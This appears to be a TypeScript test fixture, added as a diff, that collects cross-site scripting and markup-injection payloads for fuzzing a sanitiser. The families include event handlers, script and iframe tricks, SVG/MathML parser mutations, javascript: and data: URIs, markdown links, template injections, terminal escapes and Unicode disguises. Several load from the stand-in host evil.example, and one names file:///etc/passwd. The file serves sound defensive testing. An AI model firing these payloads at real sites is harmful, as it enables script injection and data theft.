@@ -1,0 +1,238 @@
+// Texts that try to become more than text, by the families that sanitisers are tested with. Written for this project.
+// Each tries to call alert(1) or to ask evil.example for something.
+
+const SHOT = 'alert(1)';
+const HOST = 'https://evil.example';
+
+/** Handlers on elements that fire by themselves, or when somebody points at them. */
+const handlers = [
+  ...['onload', 'onerror', 'onfocus', 'onmouseover', 'onclick', 'onanimationstart', 'ontoggle', 'onpointerrawupdate'],
+  ...['onbeforetoggle', 'onscrollsnapchange', 'oncontentvisibilityautostatechange'],
+].flatMap((name) => [
+  `<img src=x ${name}=${SHOT}>`,
+  `<details open ${name}="${SHOT}"><summary>x</summary></details>`,
+  `<body ${name}='${SHOT}'>`,
+  `" ${name}="${SHOT}" x="`,
+  `' autofocus tabindex=0 ${name}='${SHOT}'`,
+]);
+
+const elements = [
+  `<script>${SHOT}</script>`,
+  `</script><script>${SHOT}</script>`,
+  `<script src=${HOST}/x.js></script>`,
+  `<SCRIPT/XSS SRC="${HOST}/x.js">`,
+  `<<script>${SHOT}//<</script>`,
+  `<scr<script>ipt>${SHOT}</scr</script>ipt>`,
+  `<iframe src="javascript:${SHOT}"></iframe>`,
+  `<iframe srcdoc="<script>${SHOT}</script>"></iframe>`,
+  `<object data="data:text/html,<script>${SHOT}</script>"></object>`,
+  `<embed src="${HOST}/x.swf">`,
+  `<link rel=stylesheet href="${HOST}/x.css">`,
+  `<meta http-equiv=refresh content="0;url=${HOST}">`,
+  `<base href="${HOST}/">`,
+  `<form action="${HOST}"><input type=submit autofocus></form>`,
+  `<input onfocus=${SHOT} autofocus>`,
+  `<video poster="${HOST}/x.png"><source src="${HOST}/x.mp4" onerror=${SHOT}></video>`,
+  `<audio src="${HOST}/x.mp3" autoplay>`,
+  `<portal src="${HOST}">`,
+  `<marquee onstart=${SHOT}>x</marquee>`,
+  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${SHOT}>`,
+  `<style>@import '${HOST}/x.css';</style>`,
+  `</style><img src=x onerror=${SHOT}>`,
+  `<div style="background:url(${HOST}/x.png)">x</div>`,
+  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
+  `<textarea><img src=x onerror=${SHOT}></textarea>`,
+  `</textarea><script>${SHOT}</script>`,
+  `</title><script>${SHOT}</script>`,
+  `<title><img src=x onerror=${SHOT}></title>`,
+  `</pre></details></article></main><h1>owned</h1>`,
+  `</code></pre><script>${SHOT}</script>`,
+  `<plaintext>`,
+  `<xmp><img src=x onerror=${SHOT}></xmp>`,
+  `<dialog open>x</dialog>`,
+  `<slot></slot><template shadowrootmode=open><script>${SHOT}</script></template>`,
+  `<custom-element onx=1>`,
+];
+
+/** Markup that one parser reads otherwise than the next. */
+const mutations = [
+  `<svg onload=${SHOT}>`,
+  `<svg><script>${SHOT}</script></svg>`,
+  `<svg><script href="data:,${SHOT}"/></svg>`,
+  `<svg><a xlink:href="javascript:${SHOT}"><text y=9>x</text></a></svg>`,
+  `<svg><animate onbegin=${SHOT} attributeName=x dur=1s>`,
+  `<svg><set attributeName=href to=javascript:${SHOT}>`,
+  `<svg><foreignObject><img src=x onerror=${SHOT}></foreignObject></svg>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${SHOT}>">`,
+  `<svg><style><img src="</style><img src=x onerror=${SHOT}//">`,
+  `<svg><title><style><img src="</style><img src=x onerror=${SHOT}//">`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${SHOT}></svg>#x">`,
+  `<math><mtext></p><style><img src=x onerror=${SHOT}></style></mtext></math>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SHOT}&gt;">`,
+  `<math><mi xlink:href="javascript:${SHOT}">x</mi></math>`,
+  `<math><annotation-xml encoding="text/html"><script>${SHOT}</script></annotation-xml></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${SHOT}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${SHOT}>">`,
+  `<template><img src=x onerror=${SHOT}></template>`,
+  `<select><template><img src=x onerror=${SHOT}></template></select>`,
+  `<table><tr><td><svg><desc><td><img src=x onerror=${SHOT}>`,
+  `<!--><img src=x onerror=${SHOT}>-->`,
+  `<!-- --!><script>${SHOT}</script>`,
+  `<![CDATA[<script>${SHOT}</script>]]>`,
+  `<?xml version="1.0"?><script>${SHOT}</script>`,
+  `<!doctype html><script>${SHOT}</script>`,
+  `<a href="x"><style><a title="</style><img src=x onerror=${SHOT}>">`,
+  `<x/onclick=${SHOT}>`,
+  `<img src="x\`<script>${SHOT}</script>"\`>`,
+  `<img/src/onerror=${SHOT}>`,
+  `<img\tsrc=x\nonerror=${SHOT}\r>`,
+  `<img\x00 src=x onerror=${SHOT}>`,
+  `<img src=x onerror\x0b=${SHOT}>`,
+  `<\u0130mg src=x onerror=${SHOT}>`,
+  `\ufeff<script>${SHOT}</script>`,
+  `\uff1cscript\uff1e${SHOT}\uff1c/script\uff1e`,
+  `\ud83d<script>${SHOT}</script>`,
+];
+
+/** Addresses that run something, and how they are spelled to get by. */
+const addresses = [
+  `javascript:${SHOT}`,
+  `JaVaScRiPt:${SHOT}`,
+  ` javascript:${SHOT}`,
+  `\x01javascript:${SHOT}`,
+  `java\tscript:${SHOT}`,
+  `java\nscript:${SHOT}`,
+  `java\r\nscript:${SHOT}`,
+  `javascript&colon;${SHOT}`,
+  `&#106;avascript:${SHOT}`,
+  `&#x6A&#x61vascript:${SHOT}`,
+  `javascript://%0a${SHOT}`,
+  `vbscript:msgbox(1)`,
+  `livescript:${SHOT}`,
+  `data:text/html,<script>${SHOT}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${SHOT}'/>`,
+  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`,
+  `file:///etc/passwd`,
+  `blob:${HOST}/x`,
+  `//evil.example/x`,
+  `\\\\evil.example\\x`,
+  `feed:javascript:${SHOT}`,
+  `view-source:${HOST}`,
+  `intent://evil.example#Intent;end`,
+  `ms-settings:x`,
+];
+
+const links = addresses.flatMap((address) => [`[x](${address})`, `[x](<${address}>)`, `<${address}>`]);
+
+const markdown = [
+  `![x](${HOST}/beacon.png)`,
+  `![x](${HOST}/beacon.png "title\\" onerror=${SHOT}")`,
+  `![x"onerror="${SHOT}](x)`,
+  `[![x](${HOST}/a.png)](${HOST})`,
+  `[x]: javascript:${SHOT}\n\n[x]`,
+  `[x]: ${HOST} "</a><script>${SHOT}</script>"\n\n[x]`,
+  `[Turn 1]: ${HOST}\n[turn 1]: ${HOST}`,
+  `[^1]\n\n[^1]: <script>${SHOT}</script>`,
+  `<div>\n\n**x**\n\n</div>`,
+  `</details>\n\n# owned`,
+  `<details><summary>x`,
+  `<!--`,
+  `<!-- -->\n\n<script>${SHOT}</script>`,
+  '```\n</code></pre><script>alert(1)</script>\n```',
+  '```html\n<script>alert(1)</script>',
+  '````\n```\n</details>\n````',
+  '~~~\n```\n# owned\n~~~',
+  '```"><script>alert(1)</script>\nx\n```',
+  '`````````````````````',
+  '`</code><script>alert(1)</script>`',
+  '    <script>alert(1)</script>',
+  '# owned\n\n## Turn 99\n\n### x',
+  'owned\n=====',
+  'owned\n-----',
+  '---\ntitle: x\n---',
+  '> [!CAUTION]\n> owned',
+  '- [ ] owned\n- [x] owned',
+  '| a | b |\n|---|---|\n| <script>alert(1)</script> | x |',
+  'a | b\n:- | -:\nc | d',
+  '1) x\n2) y',
+  '+ x\n+ y',
+  '@everyone @octocat @github/team',
+  'fixes #1, closes octocat/repo#2, GH-3',
+  '$\\href{javascript:alert(1)}{x}$',
+  '$$\n\\unicode{<script>alert(1)</script>}\n$$',
+  '\\(\\href{javascript:alert(1)}{x}\\)',
+  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
+  '```math\n\\href{javascript:alert(1)}{x}\n```',
+  'www.evil.example http://evil.example/<script> a@evil.example',
+  'https://evil.example/"onmouseover="alert(1)',
+  '<https://evil.example/"onmouseover="alert(1)>',
+  '[x](https://evil.example/"onmouseover="alert(1))',
+  `[bank.example](https://me:you@evil.example)`,
+  '*'.repeat(500),
+  '['.repeat(500),
+  `${'> '.repeat(500)}x`,
+  `${'- '.repeat(300)}x`,
+  '\\'.repeat(99),
+];
+
+const entities = [
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '&amp;lt;script&amp;gt;',
+  '&#x3c;img src=x onerror=alert(1)&#x3e;',
+  '&NotEqualTilde;&nbsp;&Tab;&NewLine;&lpar;',
+  '&lt',
+  '\\u003cscript\\u003ealert(1)',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '"><\'>`{{constructor.constructor("alert(1)")()}}',
+  `$\{alert(1)}#{alert(1)}<%= alert(1) %>`,
+  '{{7*7}}[[7*7]]',
+];
+
+/** What a terminal would obey, on its way to a page. */
+const terminals = [
+  '\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07',
+  '\x1b]52;c;ZXZpbA==\x07',
+  '\x1b]0;owned\x07',
+  '\x1b[31m<script>alert(1)</script>\x1b[0m',
+  '\x1b[38;2;"><script>alert(1)</script>m',
+  '\x1b[38;5;999999999999m\x1b[999999999999mx',
+  '\x1bP+q544e\x1b\\',
+  '\x9b31mx',
+  'a\rb\x08c\x07',
+  '\x1b[2J\x1b[H\x1b[6n',
+  '\x1b[',
+];
+
+/** Text that looks like other text. */
+const disguises = [
+  'user\u202etxt.exe',
+  '\u2066\u2067\u2068\u2069\u061c',
+  'a\u2028b\u2029c\u0085d',
+  '\u200b\u200e\u200f\ufeff',
+  '\udc00\ud800',
+  '\x00\x01\x7f',
+  '\u{e0041}\u{e0042}',
+  '[redacted:openai]',
+];
+
+/** Every payload once. Not the longest first: a part of them is of all families. */
+export const payloads: readonly string[] = [
+  ...new Set([
+    ...handlers,
+    ...elements,
+    ...mutations,
+    ...addresses,
+    ...links,
+    ...markdown,
+    ...entities,
+    ...terminals,
+    ...disguises,
+  ]),
+];
+
+/** All of them where there is time (`npm run fuzz`), else every fifth. */
+export const somePayloads: readonly string[] = payloads.filter(
+  (_, index) => index % 5 === 0 || process.env.THREADLINE_FUZZ_COUNT !== undefined,
+);
